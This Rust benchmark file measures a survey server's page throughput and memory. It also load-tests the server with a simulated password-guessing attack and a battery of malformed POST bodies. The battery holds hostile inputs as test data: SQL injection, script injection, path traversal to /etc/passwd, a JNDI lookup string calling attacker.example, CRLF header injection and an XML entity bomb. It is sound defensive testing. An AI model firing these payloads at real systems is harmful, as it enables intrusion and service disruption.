//! Benchmark: respondent pages per second beside `/healthz` per second,
//! measured in the same run against the release server; and the server's
//! memory at rest, under that load, under a sign-in attack, under a battery
//! of malformed posts over every form route, and after a minute idle.
//!
//!   cargo build --release -p server -p tests --features tests/bench
//!   target/release/bench pages
//!
//! (`scripts/bench.sh pages` does both.) Goals (issue 17): at least 3,000
//! respondent pages a second; at most 100 MB resident in every phase.
//!
//! The load is `wrk`'s: 64 keep-alive connections, each asking again as soon
//! as it has its answer, `Accept-Encoding: br`, for `CONSULTA_BENCH_SECONDS`
//! (10) per page. Each connection is one invitee (its private-link cookie);
//! half of them have saved a draft (their status and the first section).
//!
//! The sign-in attack: 48 clients at once, each from its own address, each
//! trying five wrong passwords (for the Secretariat's account or an unknown
//! one). The server is started with `CONSULTA_PROXY_HOPS=1`, as behind a
//! reverse proxy, so each client's address is the one its `X-Forwarded-For`
//! names (without it, every attempt would count against 127.0.0.1, and the
//! per-address cap would refuse all but the first 50 before any password
//! was checked).
//!
//! The malformed posts: every POST route of the route table, signed in as
//! the Secretariat and holding a private link, each sent random bytes, bad
//! UTF-8, JSON and XML bodies, 20,000 fields, a 200 KB and a 300 KB field,
//! repeated fields, injection strings in every usual field, garbage
//! multipart, no content type, and a form from another origin; 64 at a time.

use crate::load;
use crate::*;
use rand::{Rng, RngCore, SeedableRng};
use reqwest::StatusCode;
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

const CONNECTIONS: usize = 64;
const SIGN_IN_CLIENTS: usize = 48;
const SIGN_IN_TRIES: usize = 5;

fn seconds(var: &str, default: u64) -> Duration {
    Duration::from_secs(
        std::env::var(var)
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(default),
    )
}

/// Runs the benchmark (`bench NAME`).
pub async fn run() {
    let duration = seconds("CONSULTA_BENCH_SECONDS", 10);
    let idle = seconds("CONSULTA_BENCH_IDLE_SECONDS", 60);
    let key_hex = "c4".repeat(32);
    let mut extra = vec![
        ("CONSULTA_SECRET_KEY", key_hex.clone()),
        // The in-process server only sets up; it must not deliver anything.
        ("CONSULTA_MAIL_PER_SECOND", "1".to_string()),
    ];
    // The built site, when there is one: the pages then name their assets
    // by content hash, as in production.
    let site = std::env::var("CONSULTA_SITE_ROOT").unwrap_or_else(|_| "target/site".into());
    if std::path::Path::new(&site)
        .join("pkg/consulta.css")
        .exists()
    {
        extra.push(("LEPTOS_SITE_ROOT", site.clone()));
    }
    let extra: Vec<(&str, &str)> = extra.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let s = super::server(&extra).await;
    let c = s.signed_in(SECRETARIAT_EMAIL).await;
    let (survey, id) = forty_questions_for_all(&s, &c, CONNECTIONS).await;
    let links: Vec<String> = derived_links(&s, &id).await.into_values().collect();
    assert_eq!(links.len(), CONNECTIONS);

    // Half the invitees have saved their status and the first section.
    for path in links.iter().skip(1).step_by(2) {
        let inv = open_link(&s, path).await;
        let res = post_step(
            &inv,
            &s,
            "/respond/profile",
            &[("support".into(), "receives".into())],
            "save",
        )
        .await;
        assert_eq!(res.status(), 303, "profile: {}", text(res).await);
        let mut so_far = app::domain::survey::answers::with_profile(
            &Default::default(),
            app::domain::response::Support::parse("receives"),
        );
        let section = &survey.sections[0];
        let fields = fill_section(&survey, section, &mut so_far);
        let page = format!("/respond/section/{}", section.id);
        let res = post_step(&inv, &s, &page, &fields, "save").await;
        assert_eq!(res.status(), 303, "{page}: {}", text(res).await);
    }
    let tokens: Vec<String> = links
        .iter()
        .map(|l| l.trim_start_matches("/i/").to_string())
        .collect();
    let contact_id = first_id(&s, "SELECT id FROM contact ORDER BY id LIMIT 1").await;
    let workshop_id = first_id(&s, "SELECT id FROM workshop ORDER BY id LIMIT 1").await;

    // The release server, as its own process on the same database, behind
    // one (pretended) reverse proxy.
    let server = ChildServer::start(&s, &[("CONSULTA_PROXY_HOPS", "1")]).await;
    let addr = server.addr;
    let (rest_rss, rest_hwm) = server.memory();
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_secs(60))
        .build()
        .unwrap();

    // What the pages are: checked once, uncompressed.
    let cookie = |t: &str| format!("consulta_invite={t}; {}=fr", app::ssr::cookies::LANG);
    let section_page = format!("/respond/section/{}", survey.sections[0].id);
    for (path, expect) in [
        ("/respond", "Benchmark: 40 questions"),
        (section_page.as_str(), "Question 0.0"),
    ] {
        for t in [&tokens[0], &tokens[1]] {
            let res = http
                .get(server.url(path))
                .header("cookie", cookie(t))
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 200, "{path}");
            let body = res.text().await.unwrap();
            assert!(body.contains(expect), "{path} shows {expect:?}: {body}");
        }
    }

    let requests = |path: &str, with_cookie: bool| -> Vec<Vec<u8>> {
        tokens
            .iter()
            .map(|t| {
                let mut h = vec!["Accept-Encoding: br".to_string()];
                if with_cookie {
                    h.push(format!("Cookie: {}", cookie(t)));
                }
                load::get(addr, path, &h)
            })
            .collect()
    };
    // Warm-up (not counted), then each page for the same time.
    load::run(
        addr,
        requests("/respond", true),
        200,
        Duration::from_secs(2),
    )
    .await;
    let healthz = load::run(addr, requests("/healthz", false), 200, duration).await;
    let home = load::run(addr, requests("/respond", true), 200, duration).await;
    let question = load::run(addr, requests(&section_page, true), 200, duration).await;
    let (load_rss, load_hwm) = server.memory();
    for (name, r) in [
        ("/healthz", &healthz),
        ("/respond", &home),
        (section_page.as_str(), &question),
    ] {
        assert!(
            r.other == 0 && r.broken == 0,
            "{name}: {} answers of status {:?}, {} broken connections",
            r.other,
            r.other_status,
            r.broken
        );
    }

    // The sign-in attack.
    let started = Instant::now();
    let mut tasks = Vec::new();
    for i in 0..SIGN_IN_CLIENTS {
        let (http, url) = (http.clone(), server.url("/sign-in"));
        tasks.push(tokio::spawn(async move {
            let email = if i % 2 == 0 {
                SECRETARIAT_EMAIL.to_string()
            } else {
                format!("nobody{i}@attack.example")
            };
            let mut statuses = Vec::new();
            for k in 0..SIGN_IN_TRIES {
                let password = format!("wrong password {k}");
                let res = http
                    .post(&url)
                    .header("x-forwarded-for", format!("198.51.100.{}", i + 1))
                    .form(&[
                        ("email", email.as_str()),
                        ("password", password.as_str()),
                        ("next", "/"),
                    ])
                    .send()
                    .await;
                statuses.push(res.map(|r| r.status()).ok());
            }
            statuses
        }));
    }
    let mut sign_ins: BTreeMap<String, usize> = BTreeMap::new();
    for t in tasks {
        for st in t.await.unwrap() {
            let k = match st {
                Some(s) => s.as_u16().to_string(),
                None => "dropped".to_string(),
            };
            *sign_ins.entry(k).or_default() += 1;
        }
    }
    let sign_in_time = started.elapsed();
    let (sign_in_rss, sign_in_hwm) = server.memory();
    assert!(
        !sign_ins.contains_key("303"),
        "a wrong password signed in: {sign_ins:?}"
    );

    // The malformed posts, signed in as the Secretariat and holding a link.
    let res = sign_in_at(&http, &server, SECRETARIAT_EMAIL).await;
    assert_eq!(res.status(), 303, "the Secretariat signs in");
    let session = set_cookies(&res)
        .iter()
        .filter_map(|c| c.split(';').next().map(str::to_string))
        .find(|c| c.contains("session"))
        .expect("a session cookie");
    let cookies = format!("{session}; {}", cookie(&tokens[2]));
    let routes: Vec<String> = app::web::routes::table()
        .into_iter()
        .filter(|(m, _, _)| m.as_str() == "POST")
        .map(|(_, p, _)| p)
        .filter(|p| *p != "/sign-out")
        .map(|p| {
            let p = if p.starts_with("/contacts/{id}") {
                p.replace("{id}", &contact_id)
            } else if p.starts_with("/workshops/{id}") {
                p.replace("{id}", &workshop_id)
            } else {
                p.replace("{id}", &id)
            };
            p.replace("{qid}", "s0q0")
                .replace("{sid}", "s0")
                .replace("{code}", "KE")
        })
        .collect();
    let kinds = malformed_bodies();
    let mut jobs = Vec::new();
    for round in 0..8 {
        for r in &routes {
            for k in 0..kinds.len() {
                jobs.push((r.clone(), k, round));
            }
        }
    }
    let jobs = Arc::new(std::sync::Mutex::new(jobs));
    let kinds = Arc::new(kinds);
    let started = Instant::now();
    let mut tasks = Vec::new();
    for _ in 0..CONNECTIONS {
        let (http, jobs, kinds, cookies, base) = (
            http.clone(),
            jobs.clone(),
            kinds.clone(),
            cookies.clone(),
            server.url(""),
        );
        tasks.push(tokio::spawn(async move {
            let mut seen: Vec<(String, String, Option<StatusCode>)> = Vec::new();
            loop {
                let Some((route, k, _)) = jobs.lock().unwrap().pop() else {
                    break;
                };
                let b = &kinds[k];
                let mut req = http
                    .post(format!("{base}{route}"))
                    .header("cookie", &cookies)
                    .body(b.body.clone());
                if let Some(ct) = &b.content_type {
                    req = req.header("content-type", ct);
                }
                if b.cross_origin {
                    req = req
                        .header("origin", "http://attacker.example")
                        .header("sec-fetch-site", "cross-site");
                }
                let status = req.send().await.ok().map(|r| r.status());
                seen.push((route, b.name.to_string(), status));
            }
            seen
        }));
    }
    let mut posts = 0usize;
    let mut by_class: BTreeMap<String, usize> = BTreeMap::new();
    let mut server_errors = Vec::new();
    let (mut cross, mut cross_refused) = (0, 0);
    for t in tasks {
        for (route, kind, status) in t.await.unwrap() {
            posts += 1;
            let class = match status {
                Some(s) => format!("{}xx", s.as_u16() / 100),
                None => "dropped".into(),
            };
            *by_class.entry(class).or_default() += 1;
            if status.is_some_and(|s| s.is_server_error()) {
                server_errors.push(format!("{route} {kind} {status:?}"));
            }
            if kind == "cross-origin form" {
                cross += 1;
                cross_refused += usize::from(status == Some(StatusCode::FORBIDDEN));
            }
        }
    }
    let malformed_time = started.elapsed();
    let (malformed_rss, malformed_hwm) = server.memory();
    // The server still answers.
    let res = http
        .get(server.url("/respond"))
        .header("cookie", cookie(&tokens[0]))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "a respondent page after the attacks");

    tokio::time::sleep(idle).await;
    let (idle_rss, idle_hwm) = server.memory();
    drop(server);
    s.stop().await;

    // The figures.
    let rate = |r: &load::Report| r.per_second();
    let ms = |d: Duration| d.as_secs_f64() * 1000.0;
    println!(
        "pages: release server on SQLite, {CONNECTIONS} keep-alive connections, Accept-Encoding: br, {} s each",
        duration.as_secs()
    );
    for (name, r) in [
        ("/healthz", &healthz),
        ("/respond", &home),
        (section_page.as_str(), &question),
    ] {
        println!(
            "  {name:<20} {:>8.0} /s   p50 {:.1} ms, p99 {:.1} ms   {:.0} bytes ({}) per answer",
            rate(r),
            ms(r.quantile(0.5)),
            ms(r.quantile(0.99)),
            r.mean_body(),
            r.encoding.as_deref().unwrap_or("identity")
        );
    }
    println!(
        "  respondent pages: /respond at {:.1}% of /healthz, the question page at {:.1}%   goal >= 3000/s",
        100.0 * rate(&home) / rate(&healthz),
        100.0 * rate(&question) / rate(&healthz)
    );
    println!(
        "sign-in attack: {SIGN_IN_CLIENTS} clients from distinct addresses (X-Forwarded-For, CONSULTA_PROXY_HOPS=1), \
         {SIGN_IN_TRIES} wrong passwords each, in {:.1} s: statuses {sign_ins:?}",
        sign_in_time.as_secs_f64()
    );
    println!(
        "malformed posts: {posts} over {} POST routes ({} kinds of body, {CONNECTIONS} at a time) in {:.1} s: {by_class:?}; \
         cross-origin refused {cross_refused} of {cross}; 5xx: {}",
        routes.len(),
        kinds.len(),
        malformed_time.as_secs_f64(),
        if server_errors.is_empty() {
            "none".to_string()
        } else {
            server_errors.join(", ")
        }
    );
    let idle_name = format!("after {} s idle", idle.as_secs());
    let phases = [
        ("at rest", rest_rss, rest_hwm),
        ("after the page load", load_rss, load_hwm),
        ("after the sign-in attack", sign_in_rss, sign_in_hwm),
        ("after the malformed posts", malformed_rss, malformed_hwm),
        (idle_name.as_str(), idle_rss, idle_hwm),
    ];
    println!("server memory (resident now / peak so far, MB), goal <= 100 MB:");
    for (name, rss, hwm) in phases {
        println!("  {name:<28} {rss:>6.1} / {hwm:>6.1}");
    }

    let pages_goal = 3000.0;
    report_row(
        "respondent first page `GET /respond` (64 connections, br)",
        &format!("{:.0} /s", rate(&home)),
        &format!("`/healthz` {:.0} /s", rate(&healthz)),
        "≥ 3,000 /s",
        Some(rate(&home) >= pages_goal),
    );
    report_row(
        "a question page of the form (`/respond/section/…`)",
        &format!("{:.0} /s", rate(&question)),
        &format!("`/healthz` {:.0} /s", rate(&healthz)),
        "≥ 3,000 /s",
        Some(rate(&question) >= pages_goal),
    );
    for (name, rss, hwm) in phases {
        report_row(
            &format!("server memory {name} (bench pages)"),
            &format!("{rss:.1} MB now, {hwm:.1} MB peak"),
            "—",
            "≤ 100 MB",
            Some(hwm <= 100.0 && rss <= 100.0),
        );
    }
    report_row(
        "malformed posts: 5xx answers, dropped connections",
        &format!(
            "{} 5xx, {} dropped of {posts}",
            server_errors.len(),
            by_class.get("dropped").copied().unwrap_or(0)
        ),
        "—",
        "none",
        Some(server_errors.is_empty() && !by_class.contains_key("dropped")),
    );
}

async fn first_id(s: &TestServer, sql: &str) -> String {
    use sea_orm::{ConnectionTrait, Statement};
    s.db.query_one_raw(Statement::from_string(
        s.db.get_database_backend(),
        sql.to_string(),
    ))
    .await
    .ok()
    .flatten()
    .and_then(|r| r.try_get_by_index::<String>(0).ok())
    .unwrap_or_else(|| "0".repeat(32))
}

async fn sign_in_at(
    http: &reqwest::Client,
    server: &ChildServer,
    email: &str,
) -> reqwest::Response {
    http.post(server.url("/sign-in"))
        .header("x-forwarded-for", "192.0.2.1")
        .form(&[("email", email), ("password", DEMO_PASSWORD), ("next", "/")])
        .send()
        .await
        .unwrap()
}

struct Malformed {
    name: &'static str,
    content_type: Option<String>,
    body: Vec<u8>,
    cross_origin: bool,
}

/// The bodies of the battery, each sent to every POST route.
fn malformed_bodies() -> Vec<Malformed> {
    let mut rng = rand::rngs::StdRng::seed_from_u64(17);
    let form = Some("application/x-www-form-urlencoded".to_string());
    let random = |rng: &mut rand::rngs::StdRng, n: usize| {
        let mut b = vec![0u8; n];
        rng.fill_bytes(&mut b);
        b
    };
    let usual = [
        "version", "go", "to", "template", "document", "key", "email", "name", "party", "role",
        "lang", "active", "support", "title_en", "title_fr", "title_es", "who", "opens_at",
        "deadline", "q.s0q0", "q.s0q8", "password", "next", "region",
    ];
    let injections = [
        "' OR '1'='1' --",
        "\"; DROP TABLE response; --",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "\u{0}\u{202e}\u{feff}",
        "%00%0d%0aSet-Cookie: x=1",
    ];
    let mut injected = Vec::new();
    for (i, f) in usual.iter().enumerate() {
        injected.push((f.to_string(), injections[i % injections.len()].to_string()));
    }
    let many: String = (0..20_000)
        .map(|i| format!("f{i}=v{i}"))
        .collect::<Vec<_>>()
        .join("&");
    let repeated: String = usual
        .iter()
        .flat_map(|f| (0..200).map(move |i| format!("{f}={i}")))
        .collect::<Vec<_>>()
        .join("&");
    let mut bad_utf8 = b"version=1&title_en=%FF%FE%C0%AF&name=".to_vec();
    bad_utf8.extend_from_slice(&[0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80]);
    bad_utf8.extend_from_slice(b"&email=%ED%A0%80");
    let mut multipart =
        b"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n"
            .to_vec();
    multipart.extend(random(&mut rng, 1024 * 1024));
    let json = serde_json::json!({
        "version": 1, "to": "open", "key": "x", "email": "a@b.c",
        "nested": {"deep": [[[[[[[[[[1]]]]]]]]]]},
        "big": "y".repeat(100_000),
    })
    .to_string();
    let xml = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \
         \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">]><form><version>1</version>\
         <to>&lol2;</to>{}</form>",
        "<f>x</f>".repeat(10_000)
    );
    vec![
        Malformed {
            name: "random bytes 4 KB",
            content_type: form.clone(),
            body: random(&mut rng, 4096),
            cross_origin: false,
        },
        Malformed {
            name: "random bytes 200 KB",
            content_type: form.clone(),
            body: random(&mut rng, 200 * 1024),
            cross_origin: false,
        },
        Malformed {
            name: "bad UTF-8",
            content_type: form.clone(),
            body: bad_utf8,
            cross_origin: false,
        },
        Malformed {
            name: "JSON",
            content_type: Some("application/json".into()),
            body: json.into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "XML",
            content_type: Some("application/xml".into()),
            body: xml.into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "20,000 fields",
            content_type: form.clone(),
            body: many.into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "a 200 KB field",
            content_type: form.clone(),
            body: format!("version=1&document={}", "z".repeat(200 * 1024)).into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "a 300 KB field",
            content_type: form.clone(),
            body: format!("version=1&document={}", "z".repeat(300 * 1024)).into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "repeated fields",
            content_type: form.clone(),
            body: repeated.into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "injection strings",
            content_type: form.clone(),
            body: serde_urlencoded::to_string(&injected).unwrap().into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "garbage multipart 1 MB",
            content_type: Some("multipart/form-data; boundary=x".into()),
            body: multipart,
            cross_origin: false,
        },
        Malformed {
            name: "no content type",
            content_type: None,
            body: format!("version=1&to=open&n={}", rng.random::<u64>()).into_bytes(),
            cross_origin: false,
        },
        Malformed {
            name: "cross-origin form",
            content_type: form,
            body: b"version=1&to=open&key=x&email=a%40b.c&go=submit".to_vec(),
            cross_origin: true,
        },
    ]
}
